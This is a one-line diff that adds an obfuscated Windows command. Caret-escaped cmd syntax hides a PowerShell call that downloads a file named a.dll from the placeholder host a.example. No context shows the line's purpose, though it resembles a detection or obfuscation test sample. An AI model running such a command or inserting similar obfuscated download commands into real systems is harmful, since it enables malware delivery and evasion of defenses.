@@ -1,0 +1,1 @@
+cmd /v:on /c fIT3hv||goto&p^o^w^e^r^s^h^e^l^l.e^x^e -c "iwr http://a.example/x -out a.dll"
